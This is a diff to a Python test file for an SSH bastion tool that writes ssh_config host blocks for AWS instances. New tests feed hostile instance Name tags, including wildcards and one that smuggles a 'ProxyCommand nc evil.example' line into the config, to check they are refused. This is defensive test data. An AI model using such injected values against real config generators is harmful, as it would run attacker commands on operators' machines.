@@ -95,7 +95,8 @@ def test_app_hosts_are_the_running_members_of_the_app_group_by_name(
 
     names = sorted(h.name or "" for h in result.config.app_hosts)
     assert names == ["", "app-1"]
-    assert f"Host app-1 {running}\n    HostName {private_ip(ec2_client, running)}\n" in result.text
+    block = f"Host app-1.default.bastion {running}.default.bastion\n"
+    assert f"{block}    HostName {private_ip(ec2_client, running)}\n" in result.text
     gateway = gateway_instance(ec2_client)
     assert f"    HostName {gateway['PublicIpAddress']}\n    Port 62222\n" in result.text
     assert "Host 172.31.*\n    ProxyJump bastion-default\n" in result.text
@@ -127,7 +128,7 @@ def test_up_after_a_relaunch_rewrites_the_written_config_with_the_new_address(
     known_hosts = Path(gateway["userknownhostsfile"]).read_text().split()
     assert known_hosts[0] == "bastion-default"
     assert fingerprint(" ".join(known_hosts[1:3])) == new_host_key_fingerprint(new)
-    app = ssh_g(written.path, "app-1")
+    app = ssh_g(written.path, "app-1.default.bastion")
     assert (app["proxyjump"], app["user"]) == ("bastion-default", "ec2-user")
 
 
@@ -208,10 +209,11 @@ def test_ssh_config_write_twice_installs_once_and_reports(
     first = invoke(runner, deps, "ssh-config", "--write", "--app-sg", app_sg)
     second = invoke(runner, deps, "ssh-config", "--write", "--app-sg", app_sg, "--json")
     assert first.exit_code == 0, first.stderr
-    assert "Include line added at the top" in first.stdout and "Try: ssh app-1" in first.stdout
+    assert "Include line added at the top" in first.stdout
+    assert "Try: ssh app-1.default.bastion" in first.stdout
     data = json.loads(second.stdout)
     assert (data["changed"], data["include_added"]) == (False, False)
-    assert [h["aliases"][0] for h in data["hosts"]] == ["app-1"]
+    assert [h["aliases"][0] for h in data["hosts"]] == ["app-1.default.bastion"]
     user_config = (Path.home() / ".ssh" / "config").read_text()
     assert user_config.count("Include ") == 1
     printed = invoke(runner, deps, "ssh-config", "--app-sg", app_sg)
@@ -227,13 +229,14 @@ def test_bastion_ssh_execs_ssh_with_the_generated_config(
     to_gateway = invoke(runner, deps, "ssh")
     assert to_app.exit_code == 0 and to_gateway.exit_code == 0, to_app.stderr + to_gateway.stderr
     config = Path(execs[0][2])
-    assert execs[0][1] == "-F" and execs[0][3:] == ["app-1", "-v", "uptime"]
+    # The short name maps to its alias in the gateway's namespace.
+    assert execs[0][1] == "-F" and execs[0][3:] == ["app-1.default.bastion", "-v", "uptime"]
     assert execs[1][3] == "-N" and execs[1][-1] == "bastion-default"
     assert "PermitLocalCommand=yes" in execs[1]
     notice = next(a for a in execs[1] if a.startswith("LocalCommand="))
     assert "connected to bastion-default" in notice and "forwarding only" in notice
     assert "Ctrl-C" in notice and notice.endswith(">&2")
-    assert "Host app-1 " in config.read_text()
+    assert "Host app-1.default.bastion " in config.read_text()
     assert execs[0][0].endswith("/ssh")
 
 
@@ -242,6 +245,8 @@ def test_bastion_ssh_execs_ssh_with_the_generated_config(
     [
         (["ssh-config"], ExitStatus.NOT_FOUND, "run `bastion up`"),
         (["ssh-config", "--hosts", "*"], ExitStatus.USAGE, "--hosts"),
+        (["ssh-config", "--hosts", "?*"], ExitStatus.USAGE, "no literal network prefix"),
+        (["ssh-config", "--hosts", "*.com"], ExitStatus.USAGE, "no literal network prefix"),
         (["ssh-config", "--app-user", "bad user"], ExitStatus.USAGE, "--app-user"),
         (["ssh-config", "--app-identity", "/nonexistent"], ExitStatus.USAGE, "--app-identity"),
         (["ssh", "app 1"], ExitStatus.USAGE, "not a host"),
@@ -313,9 +318,9 @@ def test_app_hosts_whose_console_shows_a_key_are_pinned_strictly_the_rest_named_
     pins = (folder / "app_known_hosts").read_text()
     assert pins == f"{shown} {consoles.keys[shown]}\n"
     blocks = {b.split("\n", 1)[0]: b for b in result.text.split("\n\n")}
-    strict = blocks[f"Host app-1 {shown}"]
+    strict = blocks[f"Host app-1.default.bastion {shown}.default.bastion"]
     assert f"HostKeyAlias {shown}" in strict and "StrictHostKeyChecking yes" in strict
-    loose = blocks[f"Host app-2 {silent}"]
+    loose = blocks[f"Host app-2.default.bastion {silent}.default.bastion"]
     assert "StrictHostKeyChecking accept-new" in loose and "HostKeyAlias" not in loose
     unpinned = [w for w in reporter.warnings if "shows no host key" in w]
     assert len(unpinned) == 1 and silent in unpinned[0] and shown not in unpinned[0]
@@ -323,3 +328,64 @@ def test_app_hosts_whose_console_shows_a_key_are_pinned_strictly_the_rest_named_
     burn(settings, deps, reason="app pins survive")
 
     assert (folder / "app_known_hosts").read_text() == pins
+
+
+# --- hostile Name tags: none captures a name of the operator's own config -------------------
+
+HOSTILE_TAGS = (
+    "github.com", "*", "?*", "10.0.1.5", "web 2", "work", "100%h", 'say "hi"',
+    "x\n    ProxyCommand nc evil.example 22",
+)  # fmt: skip
+
+
+def test_hostile_name_tags_become_no_host_block_that_captures_a_name_in_real_ssh(
+    deps: Deps, app_sg: str, ec2_client: Any
+) -> None:
+    ssh_dir = Path.home() / ".ssh"
+    ssh_dir.mkdir(mode=0o700)
+    (ssh_dir / "config").write_text("Host work\n    HostName work.example.com\n")
+    victim = launch_app(ec2_client, app_sg, "app-1")
+    ids = {name: launch_app(ec2_client, app_sg, name) for name in HOSTILE_TAGS}
+    ids[victim] = launch_app(ec2_client, app_sg, victim)  # a Name tag that is another's id
+    settings = make_settings(allow=ALLOW, app_sg=app_sg)
+    up(settings, deps)
+    reporter = RecordingReporter()
+    deps.reporter = reporter
+
+    ssh_config(settings, deps, write=True)
+
+    user_config = ssh_dir / "config"
+    assert user_config.read_text().startswith("Include ")
+    for name in ("github.com", "work", "10.0.1.5", victim, "web-2", "web", "evil.example"):
+        assert "proxyjump" not in ssh_g(user_config, name), name
+    assert ssh_g(user_config, "work")["hostname"] == "work.example.com"
+    assert ssh_g(user_config, f"{victim}.default.bastion")["hostname"] == private_ip(
+        ec2_client, victim
+    )
+    github = ssh_g(user_config, "github.com.default.bastion")
+    assert (github["proxyjump"], github["hostname"]) == (
+        "bastion-default",
+        private_ip(ec2_client, ids["github.com"]),
+    )
+    refused = [w for w in reporter.warnings if w.startswith("app host names left out")]
+    assert len(refused) == 1 and "\n" not in refused[0]
+    for name in ("*", "?*", "10.0.1.5", "web 2", "work", "100%h", victim):
+        assert f"{name!r} on {ids[name]}" in refused[0], name
+    assert "'work' on " + ids["work"] + " (named in ~/.ssh/config line 1)" in refused[0]
+    assert "'github.com'" not in refused[0]
+
+
+def test_bastion_ssh_reaches_an_app_host_by_its_short_name_or_instance_id(
+    runner: CliRunner, deps: Deps, app_sg: str, ec2_client: Any, execs: list[list[str]]
+) -> None:
+    app = launch_app(ec2_client, app_sg, "app-1")
+    assert invoke(runner, deps, "up", "--allow", ALLOW[0], "--app-sg", app_sg).exit_code == 0
+    for target in ("app-1", app, "app-1.default.bastion", "172.31.0.9"):
+        assert invoke(runner, deps, "ssh", "--app-sg", app_sg, target).exit_code == 0
+    mapped = [call[3] for call in execs]
+    assert mapped == [
+        "app-1.default.bastion",
+        f"{app}.default.bastion",
+        "app-1.default.bastion",
+        "172.31.0.9",
+    ]
